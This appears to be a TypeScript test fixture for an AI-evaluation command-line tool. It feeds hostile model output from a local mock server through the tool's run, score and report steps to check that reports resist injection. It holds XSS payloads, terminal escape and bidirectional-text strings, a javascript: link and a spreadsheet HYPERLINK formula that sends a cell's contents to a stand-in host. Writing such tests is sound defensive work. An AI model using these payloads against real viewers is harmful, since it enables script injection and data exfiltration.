import * as http from "node:http"
import type { AddressInfo } from "node:net"
import * as path from "node:path"
import { bin, type Ended, end, icl, start } from "../cli/executable.js"
import { responseBody } from "./runs.js"

/** What a model, or whoever speaks through it, may write to reach the reader of a report (J1, J2). */
export const hostile: Readonly<Record<string, string>> = {
  image: `"><img src=x onerror="window.pwned=1">`,
  script: `</script><script>window.pwned=1</script><!-- <script>`,
  terminal: "\u001b[31mred\u001b[0m\u001b]0;title\u0007\u009b2J\b\r",
  bidi: "abc\u202edcba\u202c\u2066x\u2069\u200b\ufeff\u2028",
  formula: `=HYPERLINK("http://192.0.2.1/?"&A1,"5916")`,
  markdown:
    "| a | b |\n# heading\n![x](http://192.0.2.1/x.png) [y](javascript:alert(1))\n````\n```\n<b>b</b>",
  long: "長い 5916 ".repeat(16_700)
}

/**
 * A smoke run of all tasks in `folder`, asked of a server whose answers, model name and refusals are hostile, scored and reported. Trials are
 * asked in the schedule's order, the texts one after the other.
 */
export const hostileRun = async (
  folder: string
): Promise<{ readonly run: string; readonly ends: ReadonlyArray<Ended> }> => {
  const texts = Object.values(hostile)
  let asked = 0
  const server = http.createServer((request, response) => {
    request.resume().on("end", () => {
      if (request.url?.endsWith("/input_tokens")) return void response.end('{"input_tokens":1000}')
      const text = texts[asked++ % texts.length] ?? ""
      response.setHeader("x-request-id", "<img src=x onerror=window.pwned=1>")
      response.end(responseBody(text, { id: hostile["image"], model: hostile["image"] }))
    })
  })
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve))
  try {
    const run = path.join(folder, "hostile")
    const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/v1` // it listens on a port
    const plan = ["plan", "--preset", "smoke", "--phase", "p1", "--out", run, "--base-url", url]
    const limits = ["--max-generation-calls=1000", "--max-http-attempts=9000", "--local-token-cap=100000000"]
    const pace = ["--concurrency=1", "--max-rpm=100000", "--max-tpm=100000000"]
    const ends = [
      await icl(...plan, "--model", "<script>window.pwned=1</script>"),
      await end(
        start(process.execPath, [bin, "run", "--run", run, "--execute", ...limits, ...pace], {
          OPENAI_API_KEY: "sk-canary-0123456789abcdef"
        })
      ),
      await icl("score", "--run", run),
      await icl("report", "--run", run),
      await icl("verify", "--run", run)
    ]
    return { run, ends }
  } finally {
    server.closeAllConnections()
    server.close()
  }
}
